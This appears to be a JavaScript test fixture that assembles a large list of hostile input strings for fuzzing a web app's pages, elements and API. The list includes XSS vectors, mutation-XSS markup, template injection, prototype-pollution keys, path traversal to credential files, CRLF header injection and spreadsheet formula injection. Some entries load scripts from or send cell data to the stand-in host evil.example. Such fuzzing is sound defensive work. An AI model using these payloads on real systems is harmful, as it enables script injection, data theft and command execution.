// Strings that no one means well with, for every input of page, element and API.
// What of them runs calls alert, which the tests hear.

const run = 'alert(1)'

const elements = ['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'video onerror src=x',
  'audio src=x onerror', 'details open ontoggle', 'marquee onstart', 'object data=x onerror', 'embed src=x onerror', 'a href=# onmouseover', 'div onpointerenter', 'button onclick',
  'style onload', 'link rel=stylesheet href=x onerror', 'math onmouseover', 'form onsubmit', 'keygen autofocus onfocus', 'dialog open oncancel', 'template onload', 'mini-compat onclick']

const markup = [
  '<b>', '<h1>x</h1>', '</div><b>x', '<!--', '-->', '<![CDATA[x]]>', '<!doctype html>', '<?xml version="1.0"?>', '<b', 'b>', '<>', '</', '&lt;b&gt;', '&#60;b&#62;', '&#x3c;script&#x3e;alert(1)', '&amp;lt;', '&quot;', '&apos;',
  ...elements.map(element => `<${element}=${run}>`), ...elements.slice(0, 12).map(element => `"><${element}="${run}">`), ...elements.slice(0, 8).map(element => `'><${element}='${run}'>`),
  ...elements.slice(0, 6).map(element => `<${element.toUpperCase()}\n=\n${run}\n>`), ...elements.slice(0, 6).map(element => `<${element.replace(' ', '/')}=${run}//`),
  `<script>${run}</script>`, `<script src=https://evil.example/x.js></script>`, `</script><script>${run}</script>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script>${run}<!--`,
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`, `</svg><img src=x onerror=${run}>`, `]]><script>${run}</script>`,
  '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<link rel=prefetch href=https://evil.example/>', '<img src=https://evil.example/a.png>', '<img srcset="https://evil.example/a.png 2x">',
  '<iframe src=https://evil.example/></iframe>', '<form action=https://evil.example/><button>', '<input type=hidden name=q formaction=https://evil.example/>', '<object data=https://evil.example/x.swf>', '<video poster=https://evil.example/a.png>',
  '<div style="background:url(https://evil.example/a)">', '<slot name=x>', '<template shadowrootmode=open><b>x</b></template>', '<mini-compat feature=showToast></mini-compat>', '<a ping=https://evil.example/ href=#>x</a>', '<a target=_blank href=https://evil.example/>',
]

// Markup that turns into other markup when it is written out and read again.
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><set attributeName=href to=javascript:${run}><a>x</a></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run} xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><image href=x onerror=${run}>`, `<svg><style>@import 'https://evil.example/'</style></svg>`, `<svg><discard onbegin=${run}>`, `<math href="javascript:${run}">x</math>`, `<table><td background=javascript:${run}>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext>`, `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;">`, `<img src=\`x\` onerror=\`${run}\`>`, `<x/ onmouseover=${run} style=position:fixed;inset:0>x`, `<a href="\u0001javascript:${run}">`, `<p/onclick=${run}//`, `\u{1f4a9}<img src=x onerror=${run}>`,
]

const schemes = ['javascript:', 'JaVaScRiPt:', 'java\nscript:', 'java\tscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', 'javascript://%0a', 'vbscript:', 'livescript:', 'data:text/html,<script>', 'data:text/html;base64,', 'data:image/svg+xml,<svg onload=',
  'blob:', 'filesystem:', 'file:///etc/passwd#', 'about:srcdoc#', 'view-source:', 'https://evil.example/', '//evil.example/', '\\\\evil.example\\', '/\\evil.example/', 'https:evil.example/', 'ws://evil.example/', 'ftp://evil.example/']

const handlers = ['onclick', 'onerror', 'onload', 'onfocus', 'onmouseover', 'onpointerdown', 'onanimationend', 'ontransitionend', 'onbeforetoggle', 'onauxclick']

const code = [`\${${run}}`, `\`\${${run}}\``, `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `#{${run}}`, `<%= ${run} %>`, `[[${run}]]`, `';${run}//`, `";${run}//`, `\\';${run}//`, `*/${run}/*`, `\n${run}\n`, `');${run};('`, `]);${run}//`, `}${run}{`, `eval('${run}')`,
  `new Function('${run}')()`, `import('https://evil.example/')`, `setTimeout('${run}')`, `\u2028${run}`, `\u2029${run}//`, '{0}{1}{2}', '{9}', '¦', '%s%n%d', '$&$1$`', '\\u003cimg src=x onerror=alert(1)\\u003e', '\\x3cscript\\x3e']

const keys = ['__proto__', 'constructor', 'prototype', 'constructor.prototype', '__proto__.polluted', 'constructor.constructor', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupGetter__', 'isPrototypeOf', 'then', 'toJSON', 'length', 'name', 'arguments', 'caller',
  'showToast.__proto__', 'showToast.constructor', 'showToast.toString', '{"__proto__":{"polluted":1}}', '__proto__[polluted]=1', 'constructor[prototype][polluted]=1', 'document', 'window', 'location', 'undefined', 'null', 'NaN', 'true', '[object Object]']

const styles = ['red;background:url(https://evil.example/)', 'x}body{display:none}', '</style><b>', 'expression(alert(1))', '@import url(https://evil.example/)', 'url("javascript:alert(1)")', '*{color:red}', 'a[href^=h]{background:url(//evil.example)}', '--x:;}*{', '-moz-binding:url(https://evil.example/)',
  'position:fixed;inset:0;z-index:9', '#id', '.class', '[name=x]', '" style="display:none', ':host{display:none}', '::part(card)', '\\3c b\\3e']

const unseen = ['\u202e', '\u202eexe.txt', 'a\u202eb\u202cc', '\u2066x\u2069', '\u200b', 'a\u200bb', '\u200e\u200f', '\ufeff', '\u00ad', 'show\u00adToast', '\u061c', '\u2028', '\u2029', '\u0000', 'a\u0000b', '\u0000<b>', '\u0007\u0008', '\u001b[31mred', '\u007f', '\u0085', '\u00a0', '\u3000', '\u180e', '\ufff9x\ufffa\ufffb', '\u{e0041}\u{e007f}',
  '\ud800', '\udc00', 'a\udfffb', '\ud83d', '\ufffd', '\uffff', '\u{10ffff}', 'Z\u0351\u036b\u0343\u034b'.repeat(30), 'ﷺ'.repeat(40), 'ｓｈｏｗＴｏａｓｔ', 'ѕhоwToast', '１.２', '٢.٩', '²', 'İ', 'ß', '\u1e9e', '👩‍👩‍👧', '🏴‍☠️', '1\u20e3']

const lines = ['a\r\nSet-Cookie: evil=1', 'a\r\n\r\n<script>alert(1)</script>', 'a\nX-Evil: yes', '\r', '\n', '\r\n', '\t', 'a\u000bb\u000cc', '%0d%0aX-Evil:%20yes', 'a%00b', '%', '%zz', '%c0%af', '%e2%80%ae', '%u003cb%u003e', '+', '&a=b', '?x#y', ';', ',', ' ', '   ']

const paths = ['../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\boot.ini', '....//....//etc/passwd', '..%2f..%2f', '%2e%2e/', '..;/', './.', '.', '..', '~/.ssh/id_rsa', '/dev/null', 'CON', 'aux.js', '.git/config', 'a/../../b', 'file.js\u0000.png', 'pages/<b>x</b>.js', '"pages".js', "p'ages.js", 'a|b.js', 'a`b`.js']

const sheets = ['=1+1', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example/?"&A1,"x")', '=IMPORTXML("https://evil.example/","//a")', '=DDE("cmd";"/C calc";"x")', '\t=1+1', '\r=1+1', '"=1+1', '=1","=2', '＝1+1', ';=1+1', '=1\n=2', '@x']

const documents = ['[x](javascript:alert(1))', '![x](https://evil.example/a.png)', '<https://evil.example/>', '[x]: https://evil.example/', '# x', '> x', '- [ ] x', '| a | b |', '|', '`', '``x``', '```', '~~~', '***x***', '\\', '@everyone', '#1', '$x$', '\n\n---\n\n', '[^1]', '&nbsp;', '<!-- x -->', '<details><summary>x', '::: warning', '{{ x }}', 'https://evil.example/']

const numbers = ['-1', '0x10', '1e9', '1e999', '.5', '1.', '1..2', '1.2.3.4.5', '9'.repeat(400), '0'.repeat(400), '1.'.repeat(900), '>=', '>=<', '>=1 <', '||', '^1', '~1', '1 - 2', '*', 'x', '2147483648', '-0', '1,000', '½', 'Infinity']

const long = ['a'.repeat(2000), 'a.'.repeat(300), '<b>'.repeat(300), '('.repeat(1000), '"'.repeat(500), '\\'.repeat(500), '中'.repeat(700), '\u{1f4a9}'.repeat(300), '['.repeat(1000), 'wx.'.repeat(300)]

/** All of them, each once. */
export const payloads = [...new Set([markup, mutating, schemes.map(scheme => scheme + run), handlers.flatMap(name => [`" ${name}="${run}`, `' ${name}='${run}`]), code, keys, styles, unseen, lines, paths, sheets, documents, numbers, long].flat())]

/** A few of each kind, for what is costly or slow. */
export const few = payloads.filter((_, i) => i % 7 === 0)
